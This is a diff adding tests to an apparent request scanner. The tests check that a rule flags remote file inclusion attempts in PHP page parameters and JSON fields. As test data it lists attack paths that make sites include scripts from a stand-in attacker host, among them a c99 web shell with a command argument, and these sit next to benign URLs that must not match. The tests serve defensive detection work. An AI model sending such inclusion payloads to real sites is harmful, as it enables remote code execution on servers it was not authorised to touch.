@@ -71,6 +71,30 @@ describe("rfi: URLs in JSON bodies", () => {
   });
 });
 
+// `index.php?page=...`, `?lang=...`: a parameter naming the page or part to show is resolved to a file
+// and included by PHP sites; a URL there is an include when it names a script or text file.
+describe("rfi: URLs to scripts in page parameters", () => {
+  it.each([
+    ["/index.php?page=http://evil.example/shell.txt", true],
+    ["/index.php?pg=https://evil.example/x.php&id=2", true],
+    ["/main.php?lang=http://evil.example/en.inc", true],
+    ["/view.php?showPage=http://evil.example/c99.php?cmd=id", true],
+    // a content or document field holds text, and its links point anywhere
+    ["/wiki/save?content=https://bugs.example.org/show_bug.cgi?id=94615", false],
+    ["/track?page=https://shop.example/products/42", false],
+    ["/i18n?lang=https://cdn.example/locales/en.json", false],
+    ["/share?url=https://evil.example/notes.txt", false],
+    ["/stats?pageviews=https://shop.example/index.php", false],
+  ])("%s is an include: %s", (path, include) => {
+    expect(inspect(h, { path }).matches.some((m) => m.id === 6104)).toBe(include);
+  });
+  it("reads a JSON member named for the page the same way", () => {
+    const ids = scan(h, "http://evil.example/shell.txt", Kind.BodyValue, "json:layout.page").matches.map((m) => m.id);
+    expect(ids).toContain(6104);
+    expect(scan(h, "https://shop.example/cart", Kind.BodyValue, "json:layout.page").matches.map((m) => m.id)).not.toContain(6104);
+  });
+});
+
 // The host a URL parser reads is hidden when an encoded slash ends the authority for one parser only.
 describe("rfi: hidden URL hosts in query strings as sent", () => {
   it.each([
